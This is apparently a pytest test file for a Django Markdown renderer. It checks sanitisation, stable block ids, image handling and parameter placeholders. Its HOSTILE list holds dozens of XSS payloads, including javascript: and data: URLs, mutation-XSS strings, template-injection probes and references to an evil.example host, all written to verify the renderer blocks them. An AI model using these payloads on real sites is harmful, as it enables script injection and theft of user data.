"""The book's Markdown: whatever stands in a text, the page is harmless; every block has an address that lasts."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from playbook import markdown
from playbook.models import Picture
from playbook.services import parameters
from playbook.services.parameters import Parameters
from salesdept.dates import today
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

ALLOWED = {
    "p": {"id"}, "h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "li": {"id"}, "tr": {"id"}, "ol": {"start"},
    "a": {"href", "rel", "class", "aria-label"}, "span": {"class", "title"},
    "img": {"src", "alt", "width", "height", "loading"},
}  # fmt: skip
BARE = {"ul", "strong", "em", "code", "pre", "blockquote", "hr", "br", "table", "thead", "tbody", "th", "td"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" style="position:fixed">x</p>',
    "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x><base href=//evil.example>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](/book/ "title\' onmouseover=alert(1) \\" x")',
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/book/pictures/1/../../../accounts/logout/)",
    "![x](/book/pictures/1/?next=//evil.example)",
    '![" onerror="alert(1)](/book/pictures/7/)',
    "![a > {{ contact.top_months }} <script>alert(1)</script>](/book/pictures/7/)",
    '![{{ contact.top_months }}" onload="alert(1)](/book/pictures/7/ "{{ contact.top_months }}")',
    '[x](https://a.example/{{contact.top_months}}"onclick=alert(1))',
    "[{{ contact.top_months }}<img src=x onerror=alert(1)>](https://a.example)",
    "{{ contact.top_months }}<script>{{ contact.top_months }}</script>",
    "{{ <script> }} {{ __class__ }} {{ settings.SECRET_KEY }} {% load x %}",
    "\ue000contact.top_months\ue001<script>\ue000x\ue001",
    "`<script>alert(1)</script>`",
    "```html\" onmouseover=\"alert(1)\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>\n## \" onfocus=alert(1) autofocus x=\"",
    "1000000000000000000. <b onmouseover=alert(1)>x</b>",
    "> " * 200 + "<script>alert(1)</script>",
    "[" * 2000 + "x" + "](javascript:alert(1))" * 50,
    "*" * 20_000,
    "<" * 20_000 + "script>",
    "x" * 90_000 + "<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\u202e<script>\u0000alert(1)",
]  # fmt: skip


class _Reader(HTMLParser):
    """Every tag of a page with its attributes, and everything that is no tag."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    assert reader.odd == []
    return reader.tags


@pytest.fixture
def values() -> Parameters:
    return parameters.in_force(today())


@pytest.fixture
def picture() -> Picture:
    return Picture.objects.create(
        pk=7, digest="d", name="Схема", width=640, height=480, content=b"x", uploaded_by=UserFactory()
    )


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:30]))
def test_hostile_text_is_harmless(values: Parameters, picture: Picture, text: str) -> None:
    for html in (markdown.render(text, values), markdown.page(text, values).html):
        for tag, attributes in tags_of(html):
            assert tag in ALLOWED or tag in BARE, (tag, html[:300])
            assert set(attributes) <= ALLOWED.get(tag, set()), (tag, attributes)
            href, src = attributes.get("href") or "", attributes.get("src")
            assert re.match(r"(https?:|mailto:|/|#)", href, re.IGNORECASE) or not re.match(
                r"\s*[\w+.-]+\s*:", href
            ), href
            assert src is None or re.fullmatch(r"/book/pictures/[0-9]+/", src), src
        assert "evil.example/pixel" not in html
        assert "<script" not in html.lower()
    markdown.plain(text, values)


def test_an_ordinary_text_is_shown_whole(values: Parameters) -> None:
    text = "## Ритм\n\n**TOP** — раз в {{ contact.top_months }} мес., [сайт](https://a.example)\n\n- раз\n- два\n"
    html = markdown.page(text, values).html
    assert "<strong>TOP</strong>" in html
    assert f'<span class="param" title="{markdown.BY_CODE["contact.top_months"].name}">1</span>' in html
    assert 'href="https://a.example"' in html
    assert [tag for tag, _attributes in tags_of(html)].count("li") == 2


def test_a_value_stands_in_words_and_never_in_an_attribute(values: Parameters, picture: Picture) -> None:
    html = markdown.render(
        "{{ contact.top_months }} `{{ contact.top_months }}` "
        "![{{ contact.top_months }}](/book/pictures/7/) [x](/a/{{contact.top_months}})",
        values,
    )
    assert html.count('class="param"') == 2
    assert 'alt="{{ contact.top_months }}"' in html


def test_every_block_has_an_address_and_shows_it(values: Parameters) -> None:
    text = (
        "# Заголовок\n\nАбзац.\n\nЕщё абзац.\n\n- пункт\n  - пункт внутри\n- другой\n\n  вторая часть\n\n"
        "| а | б |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\n> слова\n"
    )
    html = markdown.page(text, values).html
    found = tags_of(html)
    blocks = [attributes for tag, attributes in found if tag in ("h2", "p", "li", "tr")]
    ids = [one.get("id") for one in blocks]
    assert len([one for one in ids if one]) == 11
    assert len(set(ids) - {None}) == 11
    signs = [one["href"] for tag, one in found if tag == "a" and one.get("class") == "deep"]
    assert signs == [f"#{one}" for one in ids if one]
    assert "deep" not in markdown.render(text, values)


def test_an_address_lasts_when_the_rest_of_the_page_changes(values: Parameters) -> None:
    def ids(text: str) -> list[str]:
        return re.findall(r'id="([^"]+)"', markdown.render(text, values))

    before = ids("Первый абзац.\n\nВторой, раз в {{ contact.top_months }} мес.\n")
    after = ids("Новый.\n\nПервый  абзац.\n\n## Слова\n\nВторой, раз в {{ contact.top_months }} мес.\n")
    assert set(before) < set(after)
    other = Parameters(values.day, {**values.values, "contact.top_months": 2})
    again = re.findall(
        r'id="([^"]+)"', markdown.render("Второй, раз в {{ contact.top_months }} мес.\n", other)
    )
    assert again == before[1:]


def test_equal_blocks_have_different_addresses(values: Parameters) -> None:
    html = markdown.render("То же.\n\nТо же.\n\nТо же.\n", values)
    ids = re.findall(r'id="([^"]+)"', html)
    assert len(set(ids)) == 3
    assert ids[1] == f"{ids[0]}-2"


def test_a_picture_of_the_book_has_its_size_and_waits(values: Parameters, picture: Picture) -> None:
    html = markdown.render("![Схема отдела](/book/pictures/7/)", values)
    assert ("img", {"src": "/book/pictures/7/", "alt": "Схема отдела", "width": "640", "height": "480",
                    "loading": "lazy"}) in tags_of(html)  # fmt: skip


@pytest.mark.parametrize("src", ["/book/pictures/8/", "/book/pictures/7", "/book/pictures/07/", "x.png", ""])
def test_any_other_image_is_only_its_words(values: Parameters, picture: Picture, src: str) -> None:
    html = markdown.render(f"![Схема отдела]({src})", values)
    assert "<img" not in html
    assert "Схема отдела" in html


def test_a_text_without_pictures_asks_the_base_nothing(values: Parameters, django_assert_num_queries) -> None:  # type: ignore[no-untyped-def]
    with django_assert_num_queries(0):
        markdown.page("# Слова\n\nбез картинок", values)
